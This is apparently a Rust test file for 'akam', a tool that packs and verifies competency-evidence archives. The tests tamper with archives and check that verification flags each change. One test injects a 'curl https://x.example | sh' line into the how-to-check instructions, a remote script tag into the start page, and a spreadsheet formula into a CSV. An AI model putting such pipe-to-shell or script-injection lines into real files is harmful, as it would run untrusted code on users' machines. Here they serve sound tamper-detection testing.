//! The `archive-` rules on what akam writes itself: archives whose lists were written anew with what was changed.

use crate::sandbox::{Said, Sandbox};
use crate::zips::{ARCHIVE, packed, relisted};

type Files = Vec<(String, Vec<u8>)>;

/// What is said of an archive after a function changed its files, and its lists with them; it is also told the top folder.
fn after(change: impl FnOnce(&str, &mut Files)) -> Said {
    let sandbox = packed();
    relisted(&sandbox.path(ARCHIVE), change);
    sandbox.akam(&["verify", "relisted.zip"])
}

fn after_replacing(path: &str, from: &str, to: &str) -> Said {
    after(|top, files| {
        let file = files.iter_mut().find(|(name, _)| *name == format!("{top}{path}")).expect("the file is there");
        let text = String::from_utf8(file.1.clone()).expect("it is text");
        assert!(text.contains(from), "{path} does not say {from}");
        file.1 = text.replace(from, to).into_bytes();
    })
}

/// What is said of an archive to which a file was added.
fn after_adding(path: &str) -> Said {
    after(|top, files| files.push((format!("{top}{path}"), b"MZ".to_vec())))
}

#[test]
fn an_archive_that_is_listed_anew_as_it_was_is_right() {
    after(|_, _| {}).expect(0, &["all as listed", "no findings"]);
}

#[test]
fn a_page_or_list_that_says_something_else_than_the_evidence_is_found() {
    let rewritten = ["error[archive-rewritten]", "do not rely on this archive", "not what akam makes of the evidence"];
    let page = "00-START-HERE.html";
    after_replacing(page, "</main>", "<p>And much more.</p></main>").expect(1, &rewritten).expect(1, &[page]);
    after_replacing("00-START-HERE.html", "</body>", "<script src=\"https://x.example\"></script></body>")
        .expect(1, &rewritten);
    after_replacing("HOW-TO-CHECK.txt", "sha256sum", "curl https://x.example | sh; sha256sum").expect(1, &rewritten);
    after_replacing("data/evidence-index.csv", "1.D.3-A1", "=1+1").expect(1, &rewritten);
    after_replacing("data/check.json", "\"ready\": 12", "\"ready\": 13").expect(1, &rewritten);
    after_replacing("data/ro-crate-metadata.json", "Ingrid", "Astrid").expect(1, &rewritten);
    after_replacing("bag-info.txt", "Contact-Name: Ingrid Solberg", "Contact-Name: Astrid Solberg")
        .expect(1, &rewritten);
}

#[test]
fn a_document_that_was_changed_after_it_was_confirmed_does_not_pass_with_its_pages() {
    after_replacing("data/1.D.3-customer-plan/evidence.md", "I ", "We ").expect(1, &["do not rely on this archive"]);
}

#[test]
fn a_file_that_akam_never_packs_is_found_although_it_is_listed() {
    for path in [
        "00-START-HERE.exe",
        "00-START-HERE.html.lnk",
        "data/pages/setup.exe",
        "data/pages/1.D.3.html",
        "data/setup.exe",
        "data/sign-offs/setup.exe",
        "data/akam-sign-off-x/setup.exe",
        "data/private/names.toml",
        "FETCH.TXT",
        "manifest.txt",
    ] {
        let said = ["error[archive-unlisted]", path, "akam packs no such file", "1 file was added after packing"];
        after_adding(path).expect(1, &said);
    }
}

#[test]
fn what_akam_packs_with_every_archive_must_be_there() {
    for path in ["HOW-TO-CHECK.txt", "00-START-HERE.html", "data/check.json", "data/evidence-index.csv"] {
        let said = after(|top, files| files.retain(|(name, _)| *name != format!("{top}{path}")));
        said.expect(1, &["error[archive-missing]", path, "1 file is missing"]);
    }
}

#[test]
fn a_trial_is_of_a_competency_that_is_in_it_and_holds_no_other() {
    let as_trial_of = |code: &str| {
        let status = format!("Akam-Status: trial\nAkam-Competency: {code}");
        after_replacing("bag-info.txt", "Akam-Status: final", &status)
    };
    for code in ["9.Z.9", "3.D.1", "1.d.3", "12 competencies. All signed off"] {
        as_trial_of(code).expect(1, &["error[archive-malformed]", "not one of the competencies in it"]);
    }
    as_trial_of("1.D.3").expect(1, &["error[archive-malformed]", "`akam-ingrid-solberg-2026-11-22-trial-1.D.3`"]);
    after(|top, files| {
        for (name, bytes) in files {
            if name.ends_with("/bag-info.txt") {
                let status = "Akam-Status: trial\nAkam-Competency: 1.D.3";
                *bytes = String::from_utf8_lossy(bytes).replace("Akam-Status: final", status).into_bytes();
            }
            *name = name.replacen(top, "akam-ingrid-solberg-2026-11-22-trial-1.D.3/", 1);
        }
    })
    .expect(1, &["error[archive-unlisted]", "data/1.D.1-"]);
}

#[test]
fn the_day_of_packing_is_a_day_that_has_come() {
    let packed_on = |day: &str| after_replacing("bag-info.txt", "Date: 2026-11-22", &format!("Date: {day}"));
    for day in ["yesterday", "2026-11-31", "2026-11-22T10:00", "20261122", "2026-11-22: all is verified by AKAM"] {
        packed_on(day).expect(1, &["error[archive-malformed]", "is not a date", "do not rely on this archive"]);
    }
    packed_on("2999-01-01").expect(1, &["error[archive-malformed]", "is in the future"]);
    packed_on("2026-11-21").expect(1, &["error[archive-malformed]", "`akam-ingrid-solberg-2026-11-21`"]);
}

#[test]
fn what_is_not_packed_leaves_no_trace_in_a_draft() {
    let sandbox = Sandbox::complete()
        .write("1.D.3-customer-plan/artefacts/Margit-Haugen.txt", "Not registered.")
        .write("stray.txt", "No part of it.");
    sandbox.akam(&["pack", "--draft"]).expect(0, &["packed"]);
    let draft = ARCHIVE.replace(".zip", "-DRAFT.zip");
    sandbox.akam(&["verify", &draft]).expect(0, &["warning[archive-draft]", "all as listed"]);
    let all: Vec<u8> = crate::zips::files(&sandbox.path(&draft)).into_iter().flat_map(|(_, bytes)| bytes).collect();
    assert!(!String::from_utf8_lossy(&all).contains("Margit-Haugen"), "a name left the disk");
}

#[test]
fn a_framework_that_is_not_the_built_in_one_is_mentioned() {
    let framework =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/competencies.toml")).expect("it is there");
    let sandbox = Sandbox::agreed()
        .write("own.toml", framework.replacen("Customer plan", "Plan for the customer", 1))
        .edit("portfolio.toml", "[candidate]", "framework = \"own.toml\"\n\n[candidate]")
        .edit("1.D.3-customer-plan/evidence.md", "# 1.D.3 Customer plan", "# 1.D.3 Plan for the customer");
    sandbox.akam(&["pack"]).expect(0, &["packed"]);
    let said = [
        "warning[archive-own-framework]",
        "its own competency file, `akam-diploma-by-experience-13`:",
        "1.D.3 is called “Plan for the",
    ];
    sandbox.akam(&["verify", ARCHIVE]).expect(0, &said);
    sandbox.akam(&["verify", ARCHIVE, ARCHIVE]).expect(0, &["own competency file"]);
    let (_, cover) = &crate::zips::files(&sandbox.path(ARCHIVE))[0];
    assert!(String::from_utf8_lossy(cover).contains("own competency file"), "the cover does not say so");
}

#[test]
fn what_differs_in_a_framework_of_the_archives_own_is_named() {
    let framework =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/competencies.toml")).expect("it is there");
    let edits = [
        ("required = 12", "required = 11"),
        ("I confirm the facts only: ", ""),
        ("title = \"Systems and processes\"", "title = \"Processes\""),
        ("see what each division and site does, and how they fit together", "see what each division does"),
        ("title = \"Infrastructure, organisation and people\"", "title = \"Organisation\""),
        (
            "[[competency.part]]\ncode = \"1.D.2.1\"",
            "[[competency.part]]\ncode = \"1.D.2.9\"\ntitle = \"Luck\"\norigin = \"guide\"\nasks = [\"are lucky\"]\n\n[[competency.part]]\ncode = \"1.D.2.1\"",
        ),
    ];
    let edited = edits.iter().fold(framework, |text, (from, to)| {
        assert!(text.contains(from), "the framework does not say {from}");
        text.replacen(from, to, 1)
    });
    let sandbox = Sandbox::agreed().write("own.toml", edited).edit(
        "portfolio.toml",
        "[candidate]",
        "framework = \"own.toml\"\n\n[candidate]",
    );
    sandbox.akam(&["pack", "--draft"]).expect(0, &["packed"]);
    let archive = sandbox.names().into_iter().find(|name| name.starts_with("akam-")).expect("one was packed");
    let said = sandbox.akam(&["verify", &archive]);
    let found = said.found("archive-own-framework");
    let flat = found.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in [
        "11 of 13 competencies are needed, not 12 of 13",
        "people confirm another statement",
        "1.D.1 has 2 parts renamed and has 1 part asking something else",
        "1.D.2 has 1 part added",
    ] {
        assert!(flat.contains(part), "{part}\n{found}");
    }
}
